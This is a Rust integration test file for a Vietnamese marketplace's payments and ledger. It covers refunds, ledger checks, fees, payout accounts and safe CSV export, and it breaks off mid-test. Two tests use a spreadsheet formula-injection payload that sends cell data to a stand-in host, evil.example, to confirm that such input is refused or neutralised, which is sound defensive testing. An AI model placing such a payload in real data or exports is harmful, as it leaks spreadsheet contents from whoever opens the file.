//! Money that cannot be recorded wrong (issue 27): refunds never beyond what came in, whichever
//! way they are asked; the ledger's rules checked in production and shown to whoever watches;
//! money states typed in the contract; the fee fixed when an order is placed; bank fields only
//! through the payout account; CSV cells that are never formulas; the payout-account alert
//! that cannot be silenced; failed and returned payouts; runs that net, preview and never
//! come out empty; one transfer counted once across feeds.

use std::sync::Arc;

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::*;
use crate::on_both_backends;

on_both_backends!(
    refunds_never_exceed_what_came_in,
    a_broken_ledger_rule_is_seen_in_production,
    money_states_are_typed_in_the_contract,
    the_fee_is_fixed_when_the_order_is_placed,
    bank_fields_only_through_the_payout_account,
    csv_cells_are_never_formulas,
    the_payout_account_alert_cannot_be_silenced,
    a_failed_or_returned_payout_puts_the_money_back,
    runs_net_debts_preview_and_never_come_out_empty,
    one_transfer_counted_once_across_feeds,
);

const NET: &str = "man-tuyn-2-cua-1m8-x-2m"; // Bà Hạnh, 180.000 ₫
const CHEAP_NET: &str = "man-tuyn-tre-em-1m2"; // Bà Hạnh, 95.000 ₫
const HOOK: &str = "moc-treo-man-inox"; // Văn Toàn, 30.000 ₫
const STOOL: &str = "ghe-dau-go-xoan"; // Minh Đức, 120.000 ₫

async fn admin(app: &TestApp) -> String {
    app.api_login(cholang::demo::catalog::ADMIN_EMAIL, PW).await
}

/// (payment code, order codes)
async fn checkout(app: &TestApp, items: &[(&str, i64)]) -> (String, Vec<String>) {
    let (s, c) = app.checkout(items).await;
    assert_eq!(s, StatusCode::CREATED, "{c}");
    (
        c["payment"]["code"].as_str().unwrap().to_string(),
        c["orders"]
            .as_array()
            .unwrap()
            .iter()
            .map(|o| o["code"].as_str().unwrap().to_string())
            .collect(),
    )
}

async fn transition(app: &TestApp, token: &str, order: &str, to: &str) -> (StatusCode, Value) {
    app.api(
        "POST",
        &format!("/orders/{order}/transitions"),
        Some(token),
        Some(json!({"to": to})),
    )
    .await
}

async fn trial(app: &TestApp, admin: &str, account: &str) -> i64 {
    let (s, v) = app
        .api("GET", "/ledger/trial-balance", Some(admin), None)
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    v["accounts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["account"] == account)
        .map_or(0, |a| a["balance_vnd"].as_i64().unwrap())
}

async fn invariants_hold(app: &TestApp) {
    let broken = cholang::ledger::store::check_invariants(&app.db)
        .await
        .unwrap();
    assert!(broken.is_empty(), "{broken:?}");
}

/// The attention row of a payment in the reconciliation API.
async fn attention(app: &TestApp, admin: &str, code: &str) -> Value {
    let (s, v) = app.api("GET", "/reconciliation", Some(admin), None).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    v["payments_needing_attention"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["payment"]["code"] == code)
        .cloned()
        .unwrap_or(Value::Null)
}

async fn refund(app: &TestApp, admin: &str, path: &str) -> (StatusCode, Value) {
    app.api("POST", path, Some(admin), None).await
}

async fn refunds_never_exceed_what_came_in(b: Backend) {
    let app = TestApp::with_demo(b).await;
    let admin = admin(&app).await;
    let duc = app.api_login(DUC, PW).await;
    let hanh = app.api_login(HANH, PW).await;

    // 1. A transfer for an order its seller had cancelled: owed back once, whichever refund
    //    is recorded first.
    let (pay, orders) = checkout(&app, &[(STOOL, 1)]).await;
    let (s, v) = transition(&app, &duc, &orders[0], "cancelled").await;
    assert_eq!(s, StatusCode::OK, "{v}");
    let out = app.transfer(120_000, &pay).await;
    assert_eq!(out["outcome"]["status"], "refund_due", "{out}");
    let a = attention(&app, &admin, &pay).await;
    assert_eq!(a["refundable"]["received_vnd"], 120_000, "{a}");
    assert_eq!(a["refundable"]["payment_refundable_vnd"], 120_000, "{a}");
    assert_eq!(
        a["refundable"]["orders"][0]["refundable_vnd"], 120_000,
        "{a}"
    );
    let (s, v) = refund(&app, &admin, &format!("/orders/{}/refund", orders[0])).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(
        app.payment(&pay).await["status"],
        "refunded",
        "all of it went back"
    );
    let (s, v) = refund(&app, &admin, &format!("/payments/{pay}/refund")).await;
    assert_eq!(s, StatusCode::CONFLICT, "{v}");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("Không còn tiền để hoàn") && msg.contains("120.000"),
        "{msg}"
    );
    assert_eq!(trial(&app, &admin, "refunds_due").await, 0);
    assert_eq!(
        trial(&app, &admin, "collect").await,
        0,
        "120.000 in, 120.000 back"
    );
    invariants_hold(&app).await;

    // The other way round: the payment first, then the order is refused.
    let (pay, orders) = checkout(&app, &[(CHEAP_NET, 1)]).await;
    let (s, _) = transition(&app, &hanh, &orders[0], "cancelled").await;
    assert_eq!(s, StatusCode::OK);
    app.transfer(95_000, &pay).await;
    let (s, v) = refund(&app, &admin, &format!("/payments/{pay}/refund")).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    let (s, v) = refund(&app, &admin, &format!("/orders/{}/refund", orders[0])).await;
    assert_eq!(s, StatusCode::CONFLICT, "{v}");
    assert_eq!(app.payment(&pay).await["status"], "refunded");
    assert_eq!(trial(&app, &admin, "refunds_due").await, 0);
    invariants_hold(&app).await;

    // 2. Underpaid: 10.000 came for two orders (95.000 + 30.000), then time ran out. Only
    //    10.000 goes back, whatever is asked.
    let (pay, orders) = checkout(&app, &[(CHEAP_NET, 1), (HOOK, 1)]).await;
    assert_eq!(orders.len(), 2);
    let out = app.transfer(10_000, &pay).await;
    assert_eq!(out["outcome"]["status"], "underpaid", "{out}");
    sqlx::query("UPDATE payments SET expires_at = $1 WHERE code = $2")
        .bind(cholang::domain::now_ms() - 1)
        .bind(pay.clone())
        .execute(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(
        cholang::payments::store::expire_due(&app.db).await.unwrap(),
        1
    );
    let a = attention(&app, &admin, &pay).await;
    assert_eq!(a["refundable"]["payment_refundable_vnd"], 10_000, "{a}");
    for o in a["refundable"]["orders"].as_array().unwrap() {
        assert_eq!(o["refundable_vnd"], 10_000, "each at most what came: {a}");
    }
    // On the reconciliation page, the same amount.
    app.login_page(cholang::demo::catalog::ADMIN_EMAIL, PW)
        .await;
    let page = app.page("/quan-tri/doi-soat").await;
    assert!(page.contains(&pay) && page.contains("10.000 ₫"), "page");
    let (s, v) = refund(&app, &admin, &format!("/orders/{}/refund", orders[0])).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    // All 10.000 went back: the payment and both its orders are done.
    assert_eq!(app.payment(&pay).await["status"], "refunded");
    let (s, v) = refund(&app, &admin, &format!("/orders/{}/refund", orders[1])).await;
    assert_eq!(s, StatusCode::CONFLICT, "{v}");
    let (s, v) = refund(&app, &admin, &format!("/payments/{pay}/refund")).await;
    assert_eq!(s, StatusCode::CONFLICT, "{v}");
    // Through the page form too: refused with the same words, nothing recorded.
    let r = app
        .submit(
            "/quan-tri/doi-soat",
            "/quan-tri/doi-soat/hoan-thanh-toan",
            &[("code", &pay)],
        )
        .await;
    assert_eq!(r.status(), StatusCode::CONFLICT);
    assert!(r.text().await.unwrap().contains("Không còn tiền để hoàn"));
    let refunded: i64 = sqlx::query_scalar("SELECT refunded_vnd FROM payments WHERE code = $1")
        .bind(pay.clone())
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(refunded, 10_000);
    assert_eq!(trial(&app, &admin, "refunds_due").await, 0);
    // The database refuses a payment refunded beyond what it received, whatever the code.
    let over =
        sqlx::query("UPDATE payments SET refunded_vnd = amount_paid_vnd + 1 WHERE code = $1")
            .bind(pay.clone())
            .execute(&app.db.pool)
            .await;
    assert!(
        over.is_err(),
        "refund beyond money in refused by the database"
    );
    invariants_hold(&app).await;
}

/// Housekeeping checks the ledger; a broken rule is logged, counted in /metrics, said by
/// /readyz (still 200) and shown in red on every admin page, until it holds again.
async fn a_broken_ledger_rule_is_seen_in_production(b: Backend) {
    let app = TestApp::with_demo_and(b, &[("CHOLANG_METRICS_ADDR", "127.0.0.1:0")]).await;
    // The server's housekeeping checks at start: wait for its first result.
    let started = std::time::Instant::now();
    while app
        .scalar("SELECT COUNT(*) FROM ledger_health WHERE checked_at > 0")
        .await
        == 0
    {
        assert!(started.elapsed().as_secs() < 30, "no ledger check ran");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let metric = || async {
        let text = reqwest::get(app.metrics_url.as_ref().unwrap())
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        text.lines()
            .find(|l| l.starts_with("cholang_ledger_invariant_violations "))
            .map(|l| l.rsplit(' ').next().unwrap().to_string())
            .unwrap()
    };
    assert_eq!(metric().await, "0");
    let shop: i64 = app
        .scalar("SELECT id FROM shops WHERE slug = 'man-tuyn-ba-hanh'")
        .await;
    let post = |key: &'static str, amount: i64| {
        sqlx::query(
            "INSERT INTO ledger_journals (kind, memo, at, event_key, postings) VALUES ('test', '', 0, $1, $2)",
        )
        .bind(key)
        .bind(
            json!([{"account": "shop_available", "amount": amount, "shop": shop},
                   {"account": "suspense", "amount": -amount}])
            .to_string(),
        )
        .execute(&app.db.pool)
    };
    post("test:break", 5_000).await.unwrap();
    let found = cholang::ledger::store::run_check(&app.db).await.unwrap();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(metric().await, "1");
    let r = app.get("/readyz").await;
    assert_eq!(r.status(), StatusCode::OK, "still ready");
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["ledger"]["ok"], false, "{v}");
    assert!(
        v["ledger"]["violations"][0]
            .as_str()
            .unwrap()
            .starts_with("shop_available below zero"),
        "{v}"
    );
    app.login_page(cholang::demo::catalog::ADMIN_EMAIL, PW)
        .await;
    for page in ["/quan-tri/doi-soat", "/quan-tri/chi-tra", "/"] {
        let html = app.page(page).await;
        assert!(
            html.contains("Sổ cái có lỗi") && html.contains("shop_available below zero"),
            "{page}"
        );
    }
    // Sellers do not see it.
    let seller = app.new_browser();
    let token = csrf_in(
        &seller
            .get(app.url("/dang-nhap"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap(),
    );
    seller
        .post(app.url("/dang-nhap"))
        .form(&[
            ("csrf", token.as_str()),
            ("login", HANH),
            ("password", PW),
            ("next", "/quan-ly"),
        ])
        .send()
        .await
        .unwrap();
    let html = seller
        .get(app.url("/quan-ly"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(html.contains("Đăng xuất") && !html.contains("Sổ cái có lỗi"));
    // Corrected by a new journal: the next check clears every sign.
    post("test:reverse", -5_000).await.unwrap();
    assert!(
        cholang::ledger::store::run_check(&app.db)
            .await
            .unwrap()
            .is_empty()
    );
    assert_eq!(metric().await, "0");
    assert!(
        !app.page("/quan-tri/doi-soat")
            .await
            .contains("Sổ cái có lỗi")
    );
    let v: Value = app.get("/readyz").await.json().await.unwrap();
    assert_eq!(v["ledger"]["ok"], true, "{v}");
}

/// The contract names exactly the states the code writes.
async fn money_states_are_typed_in_the_contract(b: Backend) {
    let app = TestApp::spawn(b).await;
    let doc: Value = app.get("/api/v1/openapi.json").await.json().await.unwrap();
    let names = |schema: &str| -> Vec<String> {
        doc["components"]["schemas"][schema]["enum"]
            .as_array()
            .unwrap_or_else(|| panic!("{schema} is an enum"))
            .iter()
            .map(|v| v.as_str().unwrap().to_string())
            .collect()
    };
    let payment: Vec<String> = cholang::payments::state::PaymentStatus::ALL
        .iter()
        .map(|s| s.as_str().to_string())
        .collect();
    assert_eq!(names("PaymentStatus"), payment);
    let payout: Vec<String> = cholang::payouts::state::PayoutStatus::ALL
        .iter()
        .map(|s| s.as_str().to_string())
        .collect();
    assert_eq!(names("PayoutStatus"), payout);
    assert!(!doc.to_string().contains("partially_paid"));
    // The payment's status in the answers is one of them.
    assert_eq!(
        doc["components"]["schemas"]["PaymentState"]["properties"]["status"]["$ref"],
        "#/components/schemas/PaymentStatus"
    );
}

/// A change of PLATFORM_FEE_BPS never re-prices an order already placed: a second server
/// with another fee releases the first order at its own fee.
async fn the_fee_is_fixed_when_the_order_is_placed(b: Backend) {
    let app = TestApp::with_demo_and(b, &[("PLATFORM_FEE_BPS", "250")]).await;
    let (pay, orders) = checkout(&app, &[(NET, 1)]).await;
    app.transfer(180_000, &pay).await;
    let fee: i64 = sqlx::query_scalar("SELECT fee_bps FROM orders WHERE code = $1")
        .bind(orders[0].clone())
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(fee, 250);
    let other = app
        .serve_binary(
            &TEST_SETTINGS
                .iter()
                .copied()
                .chain([("PLATFORM_FEE_BPS", "1000")])
                .collect::<Vec<_>>(),
            std::process::Stdio::null(),
        )
        .await;
    let client = reqwest::Client::new();
    let login: Value = client
        .post(format!("{}/api/v1/auth/login", other.base))
        .json(&json!({"login": HANH, "password": PW}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let token = login["token"].as_str().unwrap();
    for to in ["accepted", "shipped", "delivered"] {
        let r = client
            .post(format!(
                "{}/api/v1/orders/{}/transitions",
                other.base, orders[0]
            ))
            .bearer_auth(token)
            .json(&json!({"to": to}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{to}");
    }
    let r = client
        .post(format!(
            "{}/api/v1/orders/{}/receipt",
            other.base, orders[0]
        ))
        .json(&json!({"phone": "0987654321"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "receipt");
    let bal: Value = client
        .get(format!(
            "{}/api/v1/shops/man-tuyn-ba-hanh/balance",
            other.base
        ))
        .bearer_auth(token)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(bal["fees_vnd"], 4_500, "2.5 % as placed, not 10 %: {bal}");
    assert_eq!(bal["available_vnd"], 175_500, "{bal}");
    // An order placed through the new server takes the fee in force there.
    let c: Value = client
        .post(format!("{}/api/v1/checkout", other.base))
        .json(&json!({"items": [{"product_slug": NET, "quantity": 1}],
            "buyer": {"name": "Chị Mai", "phone": "0987654321", "address": "12 Hàng Bông, Hoàn Kiếm, Hà Nội"}}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let fee: i64 = sqlx::query_scalar("SELECT fee_bps FROM orders WHERE code = $1")
        .bind(
            c["orders"][0]["code"]
                .as_str()
                .expect("checkout")
                .to_string(),
        )
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(fee, 1000);
    other.stop();
}

/// Bank fields never come in with a shop's details (API and form): 422 naming them, nothing
/// written; the payout account is set only with the password.
async fn bank_fields_only_through_the_payout_account(b: Backend) {
    let app = TestApp::with_demo(b).await;
    let token = app.register_seller("0987000111", "Chị Lan").await;
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"Bam vao")"#;
    let (s, v) = app
        .api(
            "POST",
            "/shops",
            Some(&token),
            Some(
                json!({"village": "phu-doi", "name": "Màn Lan", "phone": "0987000111",
                "bank_bin": "999999", "bank_account_no": "ABCDEF123", "bank_account_name": evil}),
            ),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    for f in ["bank_bin", "bank_account_no", "bank_account_name"] {
        assert!(v["error"]["fields"][f].is_string(), "{f}: {v}");
    }
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM shops WHERE name = 'Màn Lan'")
            .await,
        0
    );
    // The form: the same refusal, with what was typed kept.
    app.login_page("0987000111", PW).await;
    let r = app
        .submit(
            "/quan-ly",
            "/quan-ly/cua-hang",
            &[
                ("village", "phu-doi"),
                ("name", "Màn Lan"),
                ("phone", "0987000111"),
                ("bank_account_no", "ABCDEF123"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let html = r.text().await.unwrap();
    assert!(html.contains("Tài khoản nhận tiền chỉ đặt") && html.contains("Màn Lan"));
    // Without them the shop is created, with no account; PATCH refuses them too.
    let (s, v) = app
        .api(
            "POST",
            "/shops",
            Some(&token),
            Some(json!({"village": "phu-doi", "name": "Màn Lan", "phone": "0987000111"})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let slug = v["shop"]["slug"].as_str().unwrap().to_string();
    let (s, v) = app
        .api(
            "PATCH",
            &format!("/shops/{slug}"),
            Some(&token),
            Some(json!({"bank_account_name": evil})),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    let bank: Option<String> = sqlx::query_scalar("SELECT bank_bin FROM shops WHERE slug = $1")
        .bind(slug.clone())
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(bank, None);
    // Through the payout account: the bank list, digits, a holder of letters.
    let (s, v) = app
        .api(
            "PUT",
            &format!("/shops/{slug}/payout-account"),
            Some(&token),
            Some(json!({"bank_bin": "999999", "account_no": "ABCDEF123", "account_name": evil, "password": PW})),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    for f in ["bank_bin", "account_no", "account_name"] {
        assert!(v["error"]["fields"][f].is_string(), "{f}: {v}");
    }
}

/// A holder name left by the old shop form (`=HYPERLINK…`) and a formula-looking order note
/// never reach a spreadsheet as formulas: the bank file and the seller's CSV neutralise them.
async fn csv_cells_are_never_formulas(b: Backend) {
    let app = TestApp::with_demo_and(b, &[("PAYOUT_ACCOUNT_HOLD_HOURS", "0")]).await;
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"Bam vao")"#;
    sqlx::query(
        "UPDATE shops SET bank_bin = '970405', bank_account_no = '1234567890', bank_account_name = $1
         WHERE slug = 'man-tuyn-ba-hanh'",
    )
    .bind(evil)
    .execute(&app.db.pool)
    .await
    .unwrap();
    let hanh = app.api_login(HANH, PW).await;
    let (pay, orders) = checkout(&app, &[(NET, 1)]).await;
    app.transfer(180_000, &pay).await;
    for to in ["accepted", "shipped", "delivered"] {
        let (s, _) = transition(&app, &hanh, &orders[0], to).await;
        assert_eq!(s, StatusCode::OK);
    }
    app.buyer_received(&orders[0]).await;
    let admin = admin(&app).await;
    let (s, run) = app
        .api(
            "POST",
            "/payout-runs",
            Some(&admin),
            Some(json!({"method": "bank_app"})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{run}");
    assert_eq!(run["payouts"][0]["bank"]["bank_name"], "Agribank");
    app.login_page(cholang::demo::catalog::ADMIN_EMAIL, PW)
        .await;
    let csv = app
        .get(&format!(
            "/quan-tri/chi-tra/{}/tai-ve.csv",
            run["code"].as_str().unwrap()
        ))
        .await
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    for cell in row.iter() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} in {csv}"
        );
    }
    let name_at = headers.iter().position(|h| h == "ten_nguoi_nhan").unwrap();
    assert_eq!(&row[name_at], format!("'{evil}"));
    let bank_at = headers.iter().position(|h| h == "ten_ngan_hang").unwrap();
    assert_eq!(&row[bank_at], "Agribank", "bank names, not BINs alone");
    // The seller's CSV: every cell safe too (amounts out are negative numbers: quoted).
    app.login_page(HANH, PW).await;
    let csv = app
        .get("/quan-ly/doanh-thu.csv?shop=man-tuyn-ba-hanh")
        .await
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let mut rows = 0;
    for r in reader.records() {
        for cell in r.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
        rows += 1;
    }
    assert!(rows >= 2, "{csv}");
}

/// Changing the shop's email needs the password and tells the old address; the payout
/// account alert then still reaches the owner — and when nothing can, the admins are told.
async fn the_payout_account_alert_cannot_be_silenced(b: Backend) {
    let app = TestApp::with_demo_and(b, &[("PAYOUT_ACCOUNT_HOLD_HOURS", "24")]).await;
    app.quiet_demo().await;
    let duc = app.api_login(DUC, PW).await;
    let shop = "do-go-minh-duc";
    for (body, what) in [
        (json!({"email": "ke-gian@example.com"}), "no password"),
        (
            json!({"email": "ke-gian@example.com", "password": "sai-mat-khau"}),
            "wrong password",
        ),
    ] {
        let (s, v) = app
            .api("PATCH", &format!("/shops/{shop}"), Some(&duc), Some(body))
            .await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{what}: {v}");
        assert!(v["error"]["fields"]["password"].is_string(), "{what}: {v}");
    }
    let email: String = sqlx::query_scalar("SELECT email FROM shops WHERE slug = $1")
        .bind(shop)
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(email, "minhduc.go@example.vn", "unchanged");
    let (s, v) = app
        .api(
            "PATCH",
            &format!("/shops/{shop}"),
            Some(&duc),
            Some(json!({"email": "ke-gian@example.com", "password": PW})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    // The old, confirmed address hears of it.
    app.notifier().run_once().await.unwrap();
    let told: Vec<(String, String)> =
        sqlx::query_as("SELECT recipient, payload FROM notices WHERE kind = 'shop_email_changed'")
            .fetch_all(&app.db.pool)
            .await
            .unwrap();
    assert_eq!(told.len(), 1, "{told:?}");
    assert_eq!(told[0].0, "minhduc.go@example.vn");
    assert!(told[0].1.contains("k•••@example.com"), "{}", told[0].1);
    // Now the payout account: the new address is not confirmed, so the alert goes to the
    // old, confirmed one — never to the unconfirmed one — with the bank's name.
    let (s, v) = app
        .api(
            "PUT",
            &format!("/shops/{shop}/payout-account"),
            Some(&duc),
            Some(json!({"bank_bin": "970405", "account_no": "1234 5678 90", "account_name": "Tran Van Duc", "password": PW})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    app.notifier().run_once().await.unwrap();
    let alerts: Vec<(String, String)> = sqlx::query_as(
        "SELECT recipient, payload FROM notices WHERE kind = 'payout_account_changed'",
    )
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    assert!(
        alerts.iter().all(|(r, _)| r != "ke-gian@example.com"),
        "never to an unconfirmed address: {alerts:?}"
    );
    let old = alerts
        .iter()
        .find(|(r, _)| r == "minhduc.go@example.vn")
        .unwrap_or_else(|| panic!("the old confirmed address hears of it: {alerts:?}"));
    assert!(
        old.1.contains("Agribank") && !old.1.contains("970405"),
        "{}",
        old.1
    );

    // A shop nothing can reach (no email, no Telegram, an owner without a login email): kept
    // as unreachable, and the admins are told.
    let huong = app.api_login(HUONG, PW).await;
    let put_account = |bin: &'static str| {
        let (app, huong) = (&app, huong.clone());
        async move {
            let (s, v) = app
                .api(
                    "PUT",
                    "/shops/man-phu-doi-thanh-huong/payout-account",
                    Some(&huong),
                    Some(json!({"bank_bin": bin, "account_no": "0011001234567", "account_name": "Le Thanh Huong", "password": PW})),
                )
                .await;
            assert_eq!(s, StatusCode::OK, "{v}");
            app.notifier().run_once().await.unwrap();
        }
    };
    put_account("970405").await;
    assert_eq!(
        app.scalar(
            "SELECT COUNT(*) FROM unreachable_notices WHERE kind = 'payout_account_changed'"
        )
        .await,
        1
    );
    let to_admins: Vec<String> = sqlx::query_scalar(
        "SELECT payload FROM notices WHERE kind = 'payout_account_changed' AND recipient = 'admin@cholang.local'",
    )
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(to_admins.len(), 1);
    assert!(
        to_admins[0].contains("Màn Phú Đôi Thanh Hương") && to_admins[0].contains("Agribank"),
        "{}",
        to_admins[0]
    );
    // With a login email, the owner hears of it whatever the shop's settings.
    sqlx::query("UPDATE users SET email = 'huong.chu@example.vn' WHERE phone = $1")
        .bind(HUONG)
        .execute(&app.db.pool)
        .await
        .unwrap();
    put_account("970436").await;
    let to_owner: Vec<String> = sqlx::query_scalar(
        "SELECT payload FROM notices WHERE kind = 'payout_account_changed' AND recipient = 'huong.chu@example.vn'",
    )
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(to_owner.len(), 1);
    assert!(to_owner[0].contains("Vietcombank"), "{}", to_owner[0]);
}

/// A payout the admin marks failed, or that the bank sends back, is the shop's available
/// money again, with a journal; the shop is told; the next run pays it.
async fn a_failed_or_returned_payout_puts_the_money_back(b: Backend) {
    let app = TestApp::with_demo_and(b, &[("PAYOUT_ACCOUNT_HOLD_HOURS", "0")]).await;
    let hanh = app.api_login(HANH, PW).await;
    let admin = admin(&app).await;
    let (s, _) = app
        .api(
            "PUT",
            "/shops/man-tuyn-ba-hanh/payout-account",
            Some(&hanh),
            Some(json!({"bank_bin": "970405", "account_no": "1234567890", "account_name": "Nguyen Thi Hanh", "password": PW})),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let (pay, orders) = checkout(&app, &[(NET, 1)]).await;
    app.transfer(180_000, &pay).await;
    for to in ["accepted", "shipped", "delivered"] {
        transition(&app, &hanh, &orders[0], to).await;
    }
    app.buyer_received(&orders[0]).await;
    let new_run = || async {
        let (s, v) = app
            .api(
                "POST",
                "/payout-runs",
                Some(&admin),
                Some(json!({"method": "bank_app"})),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
        v["payouts"][0]["code"].as_str().unwrap().to_string()
    };
    let balance = || async {
        let (_, v) = app
            .api("GET", "/shops/man-tuyn-ba-hanh/balance", Some(&hanh), None)
            .await;
        (
            v["available_vnd"].as_i64().unwrap(),
            v["in_transit_vnd"].as_i64().unwrap(),
            v["paid_out_vnd"].as_i64().unwrap(),
        )
    };
    let first = new_run().await;
    assert_eq!(balance().await, (0, 180_000, 0));
    // Only an admin, with a reason.
    let (s, _) = app
        .api(
            "POST",
            &format!("/payouts/{first}/fail"),
            Some(&hanh),
            Some(json!({"reason": "Tài khoản bị khóa"})),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, v) = app
        .api(
            "POST",
            &format!("/payouts/{first}/fail"),
            Some(&admin),
            Some(json!({"reason": ""})),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    let (s, v) = app
        .api(
            "POST",
            &format!("/payouts/{first}/fail"),
            Some(&admin),
            Some(json!({"reason": "Ngân hàng báo tài khoản bị khóa"})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["status"], "failed");
    assert_eq!(balance().await, (180_000, 0, 0));
    let (s, _) = app
        .api(
            "POST",
            &format!("/payouts/{first}/fail"),
            Some(&admin),
            Some(json!({"reason": "Ngân hàng báo tài khoản bị khóa"})),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "once");
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM audit_log WHERE action = 'payout_marked_failed'")
            .await,
        1
    );
    app.notifier().run_once().await.unwrap();
    let told: Vec<String> = sqlx::query_scalar(
        "SELECT payload FROM notices WHERE kind = 'payout_failed' AND shop_id IS NOT NULL",
    )
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(told.len(), 1);
    assert!(told[0].contains("kiểm tra tài khoản"), "{}", told[0]);
    // The shop is free for the next run; the page offers the same, with a confirmation.
    let second = new_run().await;
    assert_ne!(second, first);
    app.login_page(cholang::demo::catalog::ADMIN_EMAIL, PW)
        .await;
    let run_code: String = sqlx::query_scalar(
        "SELECT r.code FROM payouts p JOIN payout_runs r ON r.id = p.run_id WHERE p.code = $1",
    )
    .bind(second.clone())
    .fetch_one(&app.db.pool)
    .await
    .unwrap();
    let page = format!("/quan-tri/chi-tra/{run_code}");
    assert!(
        app.page(&page)
            .await
            .contains("Khoản chi này không chuyển được?")
    );
    let r = app
        .submit(
            &page,
            &format!("/quan-tri/chi-tra/khoan/{second}/khong-thanh-cong"),
            &[("reason", "Sai số tài khoản")],
        )
        .await;
    assert_eq!(
        r.status(),
        StatusCode::UNPROCESSABLE_ENTITY,
        "needs the confirmation"
    );
    let html = r.text().await.unwrap();
    assert!(html.contains("Đánh dấu ô xác nhận") && html.contains("Sai số tài khoản"));
    assert_eq!(balance().await, (0, 180_000, 0), "nothing moved");
    // Paid from the bank app, confirmed by the feed, then the bank sends it back.
    let out = app
        .bank_webhook(&json!({"id": "OUT-2", "amount": -180_000, "description": format!("CHO LANG {second}"), "account_number": "1017595600"}))
        .await;
    assert_eq!(out.status(), StatusCode::OK);
    assert_eq!(balance().await, (0, 0, 180_000));
    let back = app
        .bank_webhook(&json!({"id": "BACK-2", "amount": 180_000, "description": format!("HOAN TRA CHO LANG {second} TK KHONG TON TAI"), "account_number": "1017595600", "reference": "FT-BACK-2"}))
        .await;
    assert_eq!(back.status(), StatusCode::OK);
    let v: Value = back.json().await.unwrap();
    assert_eq!(
        v["outcome"]["result"], "ignored",
        "not a buyer's money: {v}"
    );
    assert_eq!(balance().await, (180_000, 0, 0));
    let (_, p) = app
        .api("GET", &format!("/payouts/{second}"), Some(&admin), None)
        .await;
    assert_eq!(p["status"], "failed", "{p}");
    assert_eq!(
        app.scalar("SELECT COUNT(*) FROM bank_transactions WHERE status = 'unmatched'")
            .await,
        0
    );
    invariants_hold(&app).await;
    let third = new_run().await;
    assert_ne!(third, second);
}

/// A run pays available minus what the shop owes; the preview (API and page) says who is
/// paid and who is held and why; a run with nobody to pay is not created; eight runs at once
/// make one run; eight "paid" at once pay once.
async fn runs_net_debts_preview_and_never_come_out_empty(b: Backend) {
    let app = Arc::new(
        TestApp::with_demo_and(
            b,
            &[
                ("PAYOUT_ACCOUNT_HOLD_HOURS", "0"),
                ("PAYOUT_MIN_VND", "100000"),
            ],
        )
        .await,
    );
    let admin = admin(&app).await;
    let hanh = app.api_login(HANH, PW).await;
    let toan = app.api_login(TOAN, PW).await;
    let huong = app.api_login(HUONG, PW).await;
    let account = |token: String, shop: &'static str| {
        let app = app.clone();
        async move {
            let (s, v) = app
                .api(
                    "PUT",
